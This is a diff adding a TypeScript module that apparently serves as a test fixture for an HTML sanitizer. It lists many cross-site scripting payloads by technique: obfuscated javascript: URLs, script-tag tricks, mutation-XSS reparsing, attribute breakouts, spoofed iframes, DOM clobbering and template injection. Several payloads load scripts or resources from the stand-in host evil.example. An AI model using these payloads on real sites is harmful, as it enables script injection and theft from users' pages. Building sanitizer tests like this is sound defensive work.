@@ -1,0 +1,232 @@
+import { hostileMarkdown } from '#tests/src/shared/hostile-markdown.ts';
+import { byItself, byTouch } from './events.ts';
+
+/**
+ * Texts that try to make a page run something, by technique: our own list, most of it every element with every trick that belongs to it.
+ * Each calls `alert(1)` or asks `evil.example` for something when it succeeds.
+ */
+const call = 'alert(1)';
+
+const addresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  ` javascript:${call}`,
+  `\u0001javascript:${call}`,
+  `java\tscript:${call}`,
+  `java\nscript:${call}`,
+  `java&Tab;script:${call}`,
+  `java&NewLine;script:${call}`,
+  `javascript&colon;${call}`,
+  `&#106;avascript:${call}`,
+  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${call}`,
+  `&#0000106avascript:${call}`,
+  `javascript://https://a.example/%0A${call}`,
+  `jav\u0000ascript:${call}`,
+  `\u00a0javascript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
+  `vbscript:${call}`,
+  `blob:https://a.example/${call}`,
+  `//evil.example/x`,
+  `https://evil.example/x`,
+];
+const holders = [
+  '<a href="ADDRESS">x</a>',
+  '<img src="ADDRESS">',
+  '<iframe src="ADDRESS"></iframe>',
+  '<form action="ADDRESS"><button>x</button></form>',
+  '<button formaction="ADDRESS">x</button>',
+  '<object data="ADDRESS"></object>',
+  '<embed src="ADDRESS">',
+  '<video poster="ADDRESS" src="ADDRESS"></video>',
+  '<source src="ADDRESS" srcset="ADDRESS 2x">',
+  '<svg><a xlink:href="ADDRESS"><text>x</text></a></svg>',
+  '<math href="ADDRESS">x</math>',
+];
+
+const scripts = [
+  `<script>${call}</script>`,
+  `<SCRIPT>${call}</SCRIPT>`,
+  `<script\t>${call}</script >`,
+  `<script/x>${call}</script/x>`,
+  `<script src=//evil.example/x.js></script>`,
+  `<script type=module>${call}</script>`,
+  `<script>${call}`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<<script>${call}//<</script>`,
+  `<script x>${call}</script x`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><script href=data:,${call} /></svg>`,
+  `<math><script>${call}</script></math>`,
+  `<template><script>${call}</script></template>`,
+  `<script><!--\n${call}\n--></script>`,
+  `\u0000<script>${call}</script>`,
+  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
+  `＜script＞${call}＜/script＞`,
+  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
+  `<script>/*</script>${call}/*<script>*/`,
+];
+
+const reparsed = [
+  ...[
+    'noscript',
+    'noembed',
+    'noframes',
+    'title',
+    'textarea',
+    'xmp',
+    'style',
+    'plaintext',
+    'template',
+    'select',
+    'option',
+    'iframe',
+  ].flatMap((tag) => [
+    `<${tag}><p title="</${tag}><img src=x onerror=${call}>">`,
+    `<svg><${tag}><img src=x onerror=${call}></${tag}></svg>`,
+    `<math><${tag}><img src=x onerror=${call}></${tag}></math>`,
+    `<${tag}></${tag}/><img src=x onerror=${call}>`,
+  ]),
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
+  `<svg><p><style><g title="</style><img src=x onerror=${call}>">`,
+  `<math></br><style><!--</style><img src=x onerror=${call}>--></math>`,
+  `<svg><desc><noscript><img src="</noscript><img src=x onerror=${call}>"></desc></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>${call}</script>"></foreignObject></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${call}'/></svg>#x"/></svg>`,
+  `<svg><set attributeName="onmouseover" to="${call}"/></svg>`,
+  `<svg><animate href="#a" attributeName="href" values="javascript:${call}"/><a id="a"><text>x</text></a></svg>`,
+  `<!--><img src=x onerror=${call}>-->`,
+  `<!--!><img src=x onerror=${call}>--!>`,
+  `<!-- --!><img src=x onerror=${call}>`,
+  `<![CDATA[><img src=x onerror=${call}>]]>`,
+  `<?xml ?><img src=x onerror=${call}>?>`,
+  `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${call}>">]>&y;`,
+  `</div></article></main><img src=x onerror=${call}>`,
+  `</script><img src=x onerror=${call}>`,
+  `</title><img src=x onerror=${call}>`,
+  `]]><img src=x onerror=${call}>`,
+  `\u2028</script><script>${call}</script>`,
+];
+
+const attributes = [
+  `"><img src=x onerror=${call}>`,
+  `'><img src=x onerror=${call}>`,
+  `\`><img src=x onerror=${call}>`,
+  `" autofocus onfocus=${call} x="`,
+  `' autofocus onfocus=${call} x='`,
+  `"onload="${call}`,
+  `<a title="x" title='"><img src=x onerror=${call}>'>x</a>`,
+  `<a href="https://a.example/"onmouseover="${call}">x</a>`,
+  `<img alt="\`><img src=x onerror=${call}>" src=x>`,
+  `<img src="/media/x.png" alt="x" onerror=${call}>`,
+  `<p id="x" class="y" style="background:url(javascript:${call})">x</p>`,
+  `<a href='javascript:${call}' href='https://a.example'>x</a>`,
+  `<img src=x:x onerror=${call} src=/media/x.png>`,
+  `<a data-x='"><script>${call}</script>'>x</a>`,
+  `&quot;&gt;&lt;img src=x onerror=${call}&gt;`,
+  `%22%3E%3Cimg%20src=x%20onerror=${call}%3E`,
+];
+
+const frames = [
+  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
+  '<iframe src="https://evil.example/www.youtube.com"></iframe>',
+  '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
+  '<iframe src="https://evil.example#https://www.youtube.com"></iframe>',
+  '<iframe src="https:\\\\evil.example\\www.youtube.com"></iframe>',
+  '<iframe src="https:evil.example"></iframe>',
+  '<iframe src="/media/news/x.html"></iframe>',
+  '<iframe src="/\\evil.example"></iframe>',
+  '<iframe src="///evil.example"></iframe>',
+  '<iframe src="http://evil.example"></iframe>',
+  `<iframe srcdoc="<script>${call}</script>"></iframe>`,
+  `<iframe srcdoc="&lt;script&gt;${call}&lt;/script&gt;" src="https://player.vimeo.com/video/x"></iframe>`.replace(
+    ' src="https://player.vimeo.com/video/x"',
+    '',
+  ),
+  '<iframe src="about:blank" onload="alert(1)"></iframe>',
+  '<frameset><frame src="javascript:alert(1)"></frameset>',
+  '<portal src="https://evil.example"></portal>',
+  '<fencedframe src="https://evil.example"></fencedframe>',
+];
+
+const pageWide = [
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
+  '<base href="https://evil.example/">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<link rel="prefetch" href="https://evil.example/x">',
+  '<link rel="import" href="https://evil.example/x">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  `<style>*{x:expression(${call})}</style>`,
+  '<p style="background:url(https://evil.example/x)">x</p>',
+  `<p style="-moz-binding:url(https://evil.example/x)">x</p>`,
+  `<p style="behavior:url(https://evil.example/x)">x</p>`,
+  '<body background="https://evil.example/x">',
+  '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x</td></tr></table>',
+  '<input type="image" src="https://evil.example/x">',
+  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/x"></picture>',
+  '<video><track default src="https://evil.example/x"></video>',
+  '<audio src="https://evil.example/x" autoplay></audio>',
+  '<a href="https://a.example" ping="https://evil.example/x">x</a>',
+  '<applet code="x" archive="https://evil.example/x.jar"></applet>',
+  '<object type="text/html" data="https://evil.example/x"></object>',
+  '<isindex action="javascript:alert(1)" type=submit value=x>',
+  '<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x</button></form></dialog>',
+];
+
+const clobbering = [
+  'document',
+  'body',
+  'cookie',
+  'location',
+  'getElementById',
+  'querySelector',
+  '__proto__',
+  'constructor',
+  'forms',
+  'head',
+].flatMap((name) => [
+  `<a id="${name}"></a><a id="${name}" name="href" href="https://evil.example">x</a>`,
+  `<form id="${name}"><input name="attributes"><input name="innerHTML"></form>`,
+  `<img name="${name}" id="${name}">`,
+]);
+
+const inPlaceholders = [
+  `[[image:"><img src=x onerror=${call}>]]`,
+  `[[image:<script>${call}</script>]]`,
+  `<a title="[[image:cover]]" href="https://a.example">x</a>`,
+  `<img alt="[[image:cover]]" src="/media/[[image:cover]]">`,
+  `<a href="[[image:cover]]">[[image:cover]]</a>`,
+  `<td title='[[image:cover]]'>[[image:cover]]`,
+  `<style>[[image:cover]]</style>`,
+  `<script>[[image:cover]]</script>`,
+  `[[image:[[image:cover]]]]`,
+  `<!--[[image:cover]]-->`,
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `<%= ${call} %>`,
+  `#{${call}}`,
+  `{{rate CODE}}`,
+];
+
+/** Every text by its technique. */
+export const vectors: Record<string, readonly string[]> = {
+  'a script element': scripts,
+  'an event that fires by itself': byItself,
+  'an event that waits for a touch': byTouch,
+  'an address that runs or reads': holders.flatMap((holder) => addresses.map((address) => holder.replaceAll('ADDRESS', address))),
+  'markup that is read again as something else': reparsed,
+  'a quotation mark that leaves its attribute': attributes,
+  'a frame that pretends': frames,
+  'what changes the whole page or loads from elsewhere': pageWide,
+  'names that cover the page’s own': clobbering,
+  'placeholders and templates': inPlaceholders,
+  ...Object.fromEntries(Object.entries(hostileMarkdown).map(([technique, texts]) => [`Markdown: ${technique}`, texts])),
+};
+
+/** All of them, each once. */
+export const allVectors: readonly string[] = [...new Set(Object.values(vectors).flat())];
